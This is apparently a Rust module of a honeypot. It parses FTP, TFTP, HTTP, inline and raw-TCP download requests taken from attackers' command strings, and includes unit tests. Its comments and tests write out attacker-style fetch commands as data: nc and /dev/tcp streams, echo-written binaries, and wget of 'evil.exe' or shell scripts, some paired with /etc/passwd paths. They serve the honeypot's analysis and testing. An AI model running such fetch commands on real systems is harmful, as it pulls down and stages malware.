//! A download request: what an attack string asks its victim to fetch (docs/COMPATIBILITY.md,
//! Downloads). Produced by the pure extractor (`super::extract`), consumed by the download
//! clients (`super::download`). Replaces the host/port/user/pass/file variables the C plugins
//! (htm_ftpDownload.c, htm_tftpDownload.c, htm_httpDownload.c) parsed each for themselves.
//!
//! Owns the one URL parser ([`Request::parse`]): the extractor reads the URLs it finds in an
//! attack string with it, the HTTP client the `Location` of a redirect.
//!
//! Every field is attacker-controlled text: the clients bound and check it, and storage
//! sanitises `filename` before it becomes part of a path.

use std::fmt;

/// The transfer a command asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Scheme {
    Ftp,
    Tftp,
    Http,
    Https,
    /// A file the attack writes itself (`echo -ne '\x7f\x45…' >> f`, `printf`): nothing to
    /// fetch, the bytes are in `Request::data`.
    Inline,
    /// A raw TCP stream (`nc HOST PORT > f`, `cat </dev/tcp/HOST/PORT`): connect, send
    /// nothing, keep what the server sends until it closes. `path` is empty, `port` set.
    Tcp,
}

impl Scheme {
    /// The `dl_type` word of the attack record and logs: `ftp`, `tftp`, `http`, `https`,
    /// `inline`, `tcp`.
    pub fn name(self) -> &'static str {
        match self {
            Scheme::Ftp => "ftp",
            Scheme::Tftp => "tftp",
            Scheme::Http => "http",
            Scheme::Https => "https",
            Scheme::Inline => "inline",
            Scheme::Tcp => "tcp",
        }
    }

    /// The server port used when the command names none (a raw TCP fetch always names one).
    pub fn default_port(self) -> u16 {
        match self {
            Scheme::Ftp => 21,
            Scheme::Tftp => 69,
            Scheme::Http => 80,
            Scheme::Https => 443,
            Scheme::Inline | Scheme::Tcp => 0,
        }
    }
}

/// How [`Request::parse`] writes a host name down (IPv6 addresses stay as written).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HostCase {
    /// As the URL has it: the extractor records the server the way the attack named it.
    AsWritten,
    /// In lower case (host names are case-insensitive): the HTTP client names a redirect's
    /// server this way in its log lines and in the URI of the download.
    Lower,
}

/// Why [`Request::parse`] refused a URL. `Display` gives the reason, without the URL.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum UrlError {
    /// `[` without its `]`.
    UnclosedBracket,
    /// Between the brackets is no IPv6 address.
    BadIpv6,
    /// The port is not 1 to 65535 in at most five digits, or junk follows the host.
    BadPort,
    /// No host at all.
    NoHost,
    /// The host is neither a DNS name nor an IPv4 address.
    BadHost,
    /// An FTP or TFTP URL that names no file.
    NoFile,
}

impl fmt::Display for UrlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            UrlError::UnclosedBracket => "unclosed [",
            UrlError::BadIpv6 => "bad IPv6 address",
            UrlError::BadPort => "bad port",
            UrlError::NoHost => "no host",
            UrlError::BadHost => "bad host name",
            UrlError::NoFile => "no file name",
        })
    }
}

/// One file an attack string asks for.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Request {
    pub scheme: Scheme,
    /// Server as written: a DNS name, a dotted IPv4 address or an IPv6 address without
    /// brackets. Empty for `Inline`.
    pub host: String,
    /// Server port if the command names one; `None` means `scheme.default_port()`.
    pub port: Option<u16>,
    pub user: Option<String>,
    pub pass: Option<String>,
    /// What to ask the server for: the FTP `RETR` argument, the TFTP file name, or the HTTP
    /// request target (absolute path with query, starting with `/`). Empty for `Inline`.
    pub path: String,
    /// The name the victim would store the file under (the command's output name, else the
    /// last path component). Untrusted: storage sanitises it.
    pub filename: String,
    /// The file's bytes for `Inline`; empty otherwise.
    pub data: Vec<u8>,
}

impl Request {
    /// A request for `path` on `host` (and `port`, `None` for the scheme's default) with no
    /// credentials, local name or data.
    pub fn new(scheme: Scheme, host: &str, port: Option<u16>, path: &str) -> Request {
        Request {
            scheme,
            host: host.into(),
            port,
            user: None,
            pass: None,
            path: path.into(),
            filename: String::new(),
            data: Vec::new(),
        }
    }

    /// Reads `rest`, a URL of `scheme` after its `scheme://`:
    /// `[user[:pass]@]host[:port][/path][?query][#fragment]`.
    ///
    /// * The authority ends at the first `/`, `?` or `#`; the user information at its last
    ///   `@`, the user name at its first `:`. User name and password are percent-decoded.
    /// * The host is an IPv6 address in brackets, or a DNS name or dotted IPv4 address
    ///   (letters, digits, `.`, `-`, `_`, at most 253 bytes, not starting with `.` or `-`),
    ///   written down as `case` says. An empty port (`host:`) is no port.
    /// * HTTP(S): `path` is the request target (starting with `/`, query kept, fragment
    ///   dropped, nothing decoded); `filename` its last component, `index.html` for a
    ///   directory.
    /// * FTP and TFTP: `path` is what follows the `/` after the server, up to a `;` (`;type=i`)
    ///   or `?`, percent-decoded (`%2F` makes it absolute); `filename` its last component,
    ///   which must exist.
    pub fn parse(scheme: Scheme, rest: &[u8], case: HostCase) -> Result<Request, UrlError> {
        let auth_end = rest.iter().position(|&c| matches!(c, b'/' | b'?' | b'#')).unwrap_or(rest.len());
        let (auth, tail) = rest.split_at(auth_end);
        let tail = &tail[..tail.iter().position(|&c| c == b'#').unwrap_or(tail.len())];
        let (userinfo, hostport) = match auth.iter().rposition(|&c| c == b'@') {
            Some(k) => (Some(&auth[..k]), &auth[k + 1..]),
            None => (None, auth),
        };
        let (user, pass) = match userinfo {
            None => (None, None),
            Some(ui) => match ui.iter().position(|&c| c == b':') {
                Some(k) => (Some(decoded(&ui[..k])), Some(decoded(&ui[k + 1..]))),
                None => (Some(decoded(ui)), None),
            },
        };
        let (host, port) = if let Some(inner) = hostport.strip_prefix(b"[") {
            let close = inner.iter().position(|&c| c == b']').ok_or(UrlError::UnclosedBracket)?;
            let h = &inner[..close];
            if !valid_v6(h) {
                return Err(UrlError::BadIpv6);
            }
            (text(h), &inner[close + 1..])
        } else {
            let k = hostport.iter().position(|&c| c == b':').unwrap_or(hostport.len());
            let h = &hostport[..k];
            if !h.is_empty() && !valid_name(h) {
                return Err(UrlError::BadHost);
            }
            let h = match case {
                HostCase::AsWritten => text(h),
                HostCase::Lower => text(&h.to_ascii_lowercase()),
            };
            (h, &hostport[k..])
        };
        let port = match port {
            b"" | b":" => None,
            [b':', digits @ ..] => Some(parse_port(digits).ok_or(UrlError::BadPort)?),
            _ => return Err(UrlError::BadPort),
        };
        if host.is_empty() {
            return Err(UrlError::NoHost);
        }
        let (path, filename) = match scheme {
            Scheme::Http | Scheme::Https => {
                let path = match tail.first() {
                    None => b"/".to_vec(),
                    Some(b'?') => [b"/", tail].concat(),
                    Some(_) => tail.to_vec(),
                };
                let p = &path[..path.iter().position(|&c| c == b'?').unwrap_or(path.len())];
                let name = basename(p).filter(|n| !p.ends_with(b"/") && !n.is_empty());
                (text(&path), name.unwrap_or_else(|| "index.html".into()))
            }
            _ => {
                let t = tail.strip_prefix(b"/").unwrap_or(tail);
                let t = &t[..t.iter().position(|&c| c == b';' || c == b'?').unwrap_or(t.len())];
                let p = percent_decode(t);
                let name = basename(&p).ok_or(UrlError::NoFile)?;
                (text(&p), name)
            }
        };
        Ok(Request { scheme, host, port, user, pass, path, filename, data: Vec::new() })
    }

    /// The port to connect to.
    pub fn port_or_default(&self) -> u16 {
        self.port.unwrap_or(self.scheme.default_port())
    }

    /// A URI naming the request for the attack record and the logs:
    /// `ftp://user:pass@host:port/path`, `tftp://host/file`, `http://host:port/path`; IPv6
    /// hosts in brackets; the default port left out. `inline:<filename>` for inline files,
    /// `tcp://host:port` for a raw TCP stream.
    /// An FTP or TFTP path is what follows the `/` after the server, so an absolute one
    /// (`/etc/passwd`) shows as `ftp://host//etc/passwd`, which reads back the same.
    pub fn uri(&self) -> String {
        if self.scheme == Scheme::Inline {
            return format!("inline:{}", self.filename);
        }
        let mut s = format!("{}://", self.scheme.name());
        if let Some(u) = &self.user {
            push_userinfo(&mut s, u, false);
            if let Some(p) = &self.pass {
                s.push(':');
                push_userinfo(&mut s, p, true);
            }
            s.push('@');
        }
        if self.host.contains(':') {
            s.push('[');
            s.push_str(&self.host);
            s.push(']');
        } else {
            s.push_str(&self.host);
        }
        if let Some(p) = self.port.filter(|&p| p != self.scheme.default_port()) {
            s.push(':');
            s.push_str(&p.to_string());
        }
        if self.scheme == Scheme::Tcp {
            return s;
        }
        if !matches!(self.scheme, Scheme::Http | Scheme::Https) || !self.path.starts_with('/') {
            s.push('/');
        }
        s.push_str(&self.path);
        s
    }
}

/// Appends a user name (or, `pass`, a password) as the userinfo of a URI: every byte but
/// RFC 3986's unreserved characters and sub-delimiters (and `:` in a password)
/// percent-encoded, so that a decoded `/`, `@` or `?` in it cannot move the host when the
/// URI is read again (by a fetch program, or by whoever reads the record).
fn push_userinfo(s: &mut String, text: &str, pass: bool) {
    crate::text::push_percent_encoded(s, text.as_bytes(), |b| {
        b.is_ascii_alphanumeric() || b"-._~!$&'()*+,;=".contains(&b) || (pass && b == b':')
    });
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn decoded(b: &[u8]) -> String {
    text(&percent_decode(b))
}

/// `%XX` decoded (either letter case); a `%` without two hex digits stays as it is.
fn percent_decode(s: &[u8]) -> Vec<u8> {
    let hex = |c: Option<&u8>| c.and_then(|&c| (c as char).to_digit(16)).map(|v| v as u8);
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'%' {
            if let (Some(h), Some(l)) = (hex(s.get(i + 1)), hex(s.get(i + 2))) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        out.push(s[i]);
        i += 1;
    }
    out
}

/// The last component of a Unix or Windows path; `None` when empty, `.` or `..`.
pub(crate) fn basename(p: &[u8]) -> Option<String> {
    let b = match p.iter().rposition(|&c| c == b'/' || c == b'\\') {
        Some(k) => &p[k + 1..],
        None => p,
    };
    if b.is_empty() || b == b"." || b == b".." {
        None
    } else {
        Some(text(b))
    }
}

/// A server port as a URL or a command names it: 1 to 65535 in at most five digits.
pub(crate) fn parse_port(w: &[u8]) -> Option<u16> {
    if w.is_empty() || w.len() > 5 || !w.iter().all(u8::is_ascii_digit) {
        return None;
    }
    std::str::from_utf8(w).ok()?.parse().ok().filter(|&p| p != 0)
}

/// A DNS name or dotted IPv4 address as a command or URL may name a server.
pub(crate) fn valid_name(h: &[u8]) -> bool {
    !h.is_empty()
        && h.len() <= 253
        && h.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
        && h.iter().any(u8::is_ascii_alphanumeric)
        && !matches!(h[0], b'.' | b'-')
}

/// An IPv6 address (without brackets).
pub(crate) fn valid_v6(h: &[u8]) -> bool {
    std::str::from_utf8(h).is_ok_and(|s| s.parse::<std::net::Ipv6Addr>().is_ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(scheme: Scheme, host: &str, port: Option<u16>, path: &str) -> Request {
        Request::new(scheme, host, port, path)
    }

    #[test]
    fn uris() {
        let mut r = req(Scheme::Ftp, "1.2.3.4", Some(21), "evil.exe");
        assert_eq!(r.uri(), "ftp://1.2.3.4/evil.exe");
        r.user = Some("foo".into());
        r.pass = Some("bar".into());
        r.port = Some(2121);
        assert_eq!(r.uri(), "ftp://foo:bar@1.2.3.4:2121/evil.exe");
        r.user = Some("a/b@c:d e".into());
        r.pass = Some("p:@/%".into());
        assert_eq!(r.uri(), "ftp://a%2Fb%40c%3Ad%20e:p:%40%2F%25@1.2.3.4:2121/evil.exe");
        assert_eq!(req(Scheme::Http, "2001:db8::1", Some(8080), "/a?b").uri(), "http://[2001:db8::1]:8080/a?b");
        assert_eq!(req(Scheme::Tftp, "h", None, "x").uri(), "tftp://h/x");
        assert_eq!(req(Scheme::Tftp, "h", None, "x").port_or_default(), 69);
        // Absolute FTP and TFTP paths keep their own slash (the URL parser takes the one
        // after the server away); HTTP paths are always absolute.
        assert_eq!(req(Scheme::Ftp, "h", None, "/etc/passwd").uri(), "ftp://h//etc/passwd");
        assert_eq!(req(Scheme::Tftp, "h", None, "/srv/x").uri(), "tftp://h//srv/x");
        assert_eq!(req(Scheme::Http, "h", None, "/etc/passwd").uri(), "http://h/etc/passwd");
        let mut i = req(Scheme::Inline, "", None, "");
        i.filename = "dvrHelper".into();
        assert_eq!(i.uri(), "inline:dvrHelper");
        assert_eq!(req(Scheme::Tcp, "192.0.2.4", Some(4444), "").uri(), "tcp://192.0.2.4:4444");
        assert_eq!(req(Scheme::Tcp, "2001:db8::1", Some(80), "").uri(), "tcp://[2001:db8::1]:80");
    }

    #[test]
    fn urls_parse() {
        let p = |scheme, url: &str, case| Request::parse(scheme, url.as_bytes(), case);
        let r = p(Scheme::Http, "u%40x:p%3Aw@Example.COM:8080?q=1#f", HostCase::AsWritten).unwrap();
        assert_eq!((r.user.as_deref(), r.pass.as_deref()), (Some("u@x"), Some("p:w")));
        assert_eq!((r.host.as_str(), r.port, r.path.as_str()), ("Example.COM", Some(8080), "/?q=1"));
        assert_eq!(r.filename, "index.html");
        let r = p(Scheme::Https, "Example.COM/a/b.sh", HostCase::Lower).unwrap();
        assert_eq!((r.host.as_str(), r.path.as_str(), r.filename.as_str()), ("example.com", "/a/b.sh", "b.sh"));
        let r = p(Scheme::Ftp, "[2001:DB8::1]:/%2Fpub/x.exe;type=i", HostCase::Lower).unwrap();
        assert_eq!((r.host.as_str(), r.port, r.path.as_str()), ("2001:DB8::1", None, "/pub/x.exe"));
        assert_eq!(r.filename, "x.exe");
        for (url, why) in [
            ("[::1/x", UrlError::UnclosedBracket),
            ("[zz]/x", UrlError::BadIpv6),
            ("h:0/x", UrlError::BadPort),
            ("h:99999/x", UrlError::BadPort),
            ("[::1]x/x", UrlError::BadPort),
            (":80/x", UrlError::NoHost),
            ("a b/x", UrlError::BadHost),
            ("-h/x", UrlError::BadHost),
            ("h/", UrlError::NoFile),
        ] {
            assert_eq!(p(Scheme::Tftp, url, HostCase::AsWritten), Err(why), "{url}");
        }
        assert_eq!(UrlError::UnclosedBracket.to_string(), "unclosed [");
    }

    /// Found by the `url` fuzz target: `ftp://host/%2Fetc/pass` asks for the absolute path
    /// `/etc/pass`, but its URI read `ftp://host/etc/pass`, the relative path `etc/pass`.
    #[test]
    fn uris_read_back_as_the_same_request() {
        use crate::pipeline::extract::extract;
        for url in [
            "ftp://anonymous@192.0.2.4/%2Fetc/pass",
            "ftp://192.0.2.4//pub/x.exe",
            "ftp://u:p@192.0.2.4:2121/pub/x.exe",
            "tftp://192.0.2.4//srv/mips",
            "tftp://192.0.2.4/mips",
            "http://192.0.2.4:8080/a/b.sh?x=1",
            // A decoded `/` or `@` in the user or password is encoded again: the URI of
            // `ftp://an/x@192.0.2.4/y` would name the server `an`.
            "ftp://an%2Fx@192.0.2.4/y",
            "http://127.0.0.1%2F:p%40ss%3Fw@192.0.2.4/y.sh",
        ] {
            let first = extract(format!("wget {url}").as_bytes());
            assert_eq!(first.len(), 1, "{url}");
            let again = extract(format!("wget {}", first[0].uri()).as_bytes());
            assert_eq!(again, first, "{url} -> {}", first[0].uri());
        }
    }
}
